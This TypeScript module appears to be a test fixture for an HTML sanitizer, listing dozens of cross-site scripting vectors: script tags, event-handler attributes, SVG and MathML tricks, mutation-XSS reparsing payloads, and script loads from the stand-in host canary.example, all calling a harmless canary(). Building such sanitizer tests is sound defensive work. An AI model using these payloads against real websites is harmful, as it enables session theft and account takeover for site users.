/** Defence that a text tries to evade. */
type VectorKind =
  | 'element'
  | 'handler'
  | 'address'
  | 'drawing'
  | 'reparsing'
  | 'breakout'
  | 'encoding'
  | 'style'
  | 'clobbering'
  | 'template'

/** A text that runs `canary()` wherever it is not shown as plain text. */
export type Vector = { kind: VectorKind; text: string }

/** The call that all of them try to make. */
export const RUN = 'canary()'
/** Attributes of a missing picture. */
export const BROKEN = 'src=x:x onerror=canary()'
/** The simplest picture that runs it. */
export const IMG = `<img ${BROKEN}>`
/** The simplest script. */
export const SCRIPT = `<script>${RUN}</script>`
/** The same within an SVG. */
export const SVG_IMG = `<svg><image href=x:x onerror=${RUN} />`
/** The address of external resources. */
export const AWAY = 'https://canary.example/run'

/** Vectors of one kind. */
export const vectors = (kind: VectorKind, ...texts: string[]): Vector[] =>
  texts.map((text) => ({ kind, text }))

const ELEMENTS = vectors(
  'element',
  SCRIPT,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script src=${AWAY}.js></script>`,
  `<script src=//canary.example/run.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}`,
  `<iframe srcdoc="${SCRIPT}"></iframe>`,
  `<iframe srcdoc='&lt;script&gt;parent.${RUN}&lt;/script&gt;'></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=${AWAY}></iframe>`,
  `<frameset onload=${RUN}><frame src=${AWAY}></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,${SCRIPT}"></object>`,
  `<object type=text/html data=${AWAY}></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src=${AWAY}>`,
  `<applet code=${AWAY}></applet>`,
  `<base href=https://canary.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<link rel=stylesheet href=${AWAY}.css>`,
  `<link rel=preload as=script href=${AWAY}.js>`,
  `<link rel=import href=${AWAY}>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open>${IMG}</template>`,
  `<portal src=${AWAY}></portal>`,
  `<fencedframe src=${AWAY}></fencedframe>`,
  `<xss style=animation-name:spin onanimationstart=${RUN}>`,
)

const HANDLERS = vectors(
  'handler',
  IMG,
  `<img/src=x:x/onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `<img src=x:x onerror="${RUN}"`,
  `<IMG SRC=x:x ONERROR=${RUN}>`,
  `<img src=x:x\tonerror=${RUN}>`,
  `<img src=x:x\fonerror=${RUN}>`,
  `<img src=x:x onerror=\`${RUN}\`>`,
  `<img src=x:x onerror='canary\`\`'>`,
  `<img srcset=x:x onerror=${RUN}>`,
  `<img src=data:, onload=${RUN} onerror=${RUN}>`,
  `<image src=x:x onerror=${RUN}>`,
  `<video><source onerror=${RUN} src=x:x></video>`,
  `<video src=x:x onerror=${RUN}></video>`,
  `<audio src=x:x onerror=${RUN}></audio>`,
  `<video poster=x:x onloadstart=${RUN}><source></video>`,
  `<track default src=x:x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<body onhashchange=${RUN}><a href=#x>x</a>`,
  `<html onpointermove=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>x</button>`,
  `<a tabindex=1 autofocus onfocus=${RUN}>x</a>`,
  `<div contenteditable autofocus onfocus=${RUN}>x</div>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
  `<div popover id=p onbeforetoggle=${RUN}>x</div>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p onpointerrawupdate=${RUN} onmouseover=${RUN} onmouseenter=${RUN}>x</p>`,
  `<p onclick=${RUN}>x</p>`,
  `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${RUN}>x</p>`,
  `<p style="transition:color 1s" ontransitionrun=${RUN} ontransitionend=${RUN}>x</p>`,
  `<form onsubmit=${RUN}><button>x</button></form>`,
  `<object onerror=${RUN} data=x:x></object>`,
  `<link rel=stylesheet href=x:x onerror=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<iframe onload=${RUN}></iframe>`,
)

const DRAWINGS = vectors(
  'drawing',
  SVG_IMG,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=${AWAY}.js /></svg>`,
  `<svg><a href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x to=1>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x" /></svg>`,
  `<svg><foreignObject>${IMG}</foreignObject></svg>`,
  `<svg><style>@import '${AWAY}.css'</style></svg>`,
  `<svg><handler type=text/javascript>${RUN}</handler></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding=text/html>${IMG}</annotation-xml></math>`,
)

const REPARSING = vectors(
  'reparsing',
  `<noscript><p title="</noscript>${IMG}">`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMG}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>${IMG}">`,
  `<svg><desc><table><style><a title="</style>${IMG}">`,
  `<select><style></select>${IMG}</style>`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${IMG}">`,
  `<table><td><select><svg><style></select>${IMG}`,
  `<title><a title="</title>${IMG}">`,
  `<textarea><a title="</textarea>${IMG}">`,
  `<xmp><a title="</xmp>${IMG}">`,
  `<plaintext>${IMG}`,
  `<noembed><a title="</noembed>${IMG}">`,
  `<noframes><a title="</noframes>${IMG}">`,
  `<style><a title="</style>${IMG}">`,
  `<iframe><a title="</iframe>${IMG}">`,
  `<p><svg><p><style><!--</style>${IMG}--></style>`,
  `<!--><img title="-->${IMG}">`,
  `<!--!><img title="--!>${IMG}">`,
  `<![CDATA[><img title="]]>${IMG}">`,
  `<svg><![CDATA[</svg>${IMG}]]>`,
  `<?xml ><img title="?>${IMG}">`,
  `<!DOCTYPE x [<!ENTITY y "${IMG}">]>&y;`,
  `<a title="x\`${IMG}">x</a>`,
  `${'<b>'.repeat(60)}${IMG}`,
)

/** Elements, handlers, drawings, and what is parsed differently the second time. */
export const MARKUP: readonly Vector[] = [...ELEMENTS, ...HANDLERS, ...DRAWINGS, ...REPARSING]
